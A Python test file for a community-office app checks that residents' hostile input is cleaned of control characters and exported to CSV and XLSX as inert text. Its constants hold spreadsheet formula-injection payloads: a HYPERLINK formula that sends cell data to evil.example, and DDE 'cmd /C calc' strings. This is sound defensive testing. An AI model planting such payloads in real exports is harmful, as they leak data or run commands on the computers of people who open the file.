"""Hostile text from residents in the office's exports: formulas stay text, control characters go.

A proposal title, a report text, a need note and a volunteer's name are entered the way people
enter them (dialogs, an import), with formula payloads and control characters; every export is
then written as CSV and XLSX and read back as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select, update

from handlers.admin.exports import EXPORTERS, exporter, write
from handlers.admin.imports import COLUMNS, import_rows
from handlers.admin.tables import read_rows
from storage.models import GridReport, Need, Person, Proposal
from tests.e2e.test_registration import REGISTRATION
from tests.support.chat import Chat
from tests.support.proposals import propose
from tests.support.volunteering import record

CONTROL = "\x0b\x1b\x7f\x85\x9b\x07\x00"  # VT, ESC, DEL, C1 NEL and CSI, bell, NUL
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
REPORT = "-2+3+cmd|' /C calc'!A0 楼道灯坏了"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
RESIDENT = '+1+cmd|" /C calc"!A0'
VOLUNTEER = "=1+2"
HOSTILE = {TITLE, REPORT, NOTE, RESIDENT, VOLUNTEER}


async def _enter_everything(chat: Chat, tmp_path: Path) -> None:
    """Each hostile text through the path a person uses, control characters mixed in."""
    assert "已提交" in await propose(chat, "王凤兰", TITLE[:10] + CONTROL + TITLE[10:], "灯坏了")
    for said in ("报事", "5", REPORT[:5] + CONTROL + REPORT[5:], "跳过", "1"):
        await chat.text("陈永福", said)
    assert "已提交报事" in await chat.text("陈永福", "1")
    for said in ("/whistle 1", "1", "3", NOTE + CONTROL):  # handed to 城管 with a note
        await chat.text("张磊", said)
    async with chat.app.db.transaction() as session:  # a practical project, for 项目清单
        (await session.scalars(select(Proposal))).one().status = "accepted"
    steps = [*REGISTRATION[:5], (RESIDENT + CONTROL, "隐私政策"), ("1", "登记完成")]
    await chat.script("hostile", steps)
    for said in ("需求", "陪老人看病", "1", "2", "1", NOTE + CONTROL):
        await chat.text("hostile", said)
    assert "已提交服务需求" in await chat.text("hostile", "1")
    table = tmp_path / "volunteers.csv"
    table.write_text(
        f"name,home_region_code,skills,availability\n{VOLUNTEER}{CONTROL},CY-JS-01-G1,"
        "medical_escort,sat_am\n",
        encoding="utf-8",
    )
    async with chat.app.db.transaction() as session:
        rows = read_rows(table, COLUMNS["volunteers"])
        report = await import_rows(session, "volunteers", rows, chat.app.deps.clock())
    assert report.imported == 1, report.errors
    await record(chat, VOLUNTEER, "2", datetime(2026, 11, 28, 2, tzinfo=UTC))


async def _exports(chat: Chat) -> dict[str, list[dict[str, Any]]]:
    async with chat.app.db.transaction() as session:
        return {kind: await exporter(kind)(session, None) for kind in EXPORTERS}


async def test_hostile_text_is_stored_clean_and_exported_as_text(
    chat: Chat, tmp_path: Path
) -> None:
    await _enter_everything(chat, tmp_path)
    async with chat.app.db.transaction() as session:
        stored = {
            await session.scalar(select(Proposal.title)),
            await session.scalar(select(GridReport.text)),
            await session.scalar(select(Need.notes)),
            *(await session.scalars(select(Person.display_name))),
        }
    assert stored >= HOSTILE  # the control characters were dropped where the text came in

    exports = await _exports(chat)
    seen: set[str] = set()
    for kind, rows in exports.items():
        # "projects" counts practical projects per year and region (numbers and region names):
        # none is decided here, and it holds no text a person typed.
        assert rows or kind == "projects", kind
        parsed = list(csv.reader(io.StringIO(write(rows, "csv").decode("utf-8-sig"))))
        cells = {cell for line in parsed for cell in line}
        for text in HOSTILE & {v for row in rows for v in row.values()}:
            assert "'" + text in cells and text not in cells, (kind, text)
            seen.add(text)

        sheet = load_workbook(io.BytesIO(write(rows, "xlsx"))).active
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (kind, cell.coordinate, cell.value)
                if cell.value in HOSTILE:
                    assert cell.data_type == "s"
    assert seen == HOSTILE  # every hostile text appeared in some export


async def test_control_characters_already_stored_do_not_break_an_export(chat: Chat) -> None:
    """Rows written before the cleaning (or by another tool) still export, cleaned."""
    await chat.script(
        "陈永福",
        [
            ("报事", "请选择问题类别"),
            ("5", "请简单描述问题"),
            ("楼道堆物", "有照片吗"),
            ("跳过", "问题在哪里"),
            ("1", "请确认报事"),
            ("1", "已提交报事"),
        ],
    )
    async with chat.app.db.transaction() as session:
        await session.execute(update(GridReport).values(text="堆物\x0b\x1b[2J\x01\x1f占道"))
    rows = (await _exports(chat))["reports"]
    sheet = load_workbook(io.BytesIO(write(rows, "xlsx"))).active
    header = [c.value for c in sheet[1]]
    assert sheet.cell(2, header.index("text") + 1).value == "堆物[2J占道"
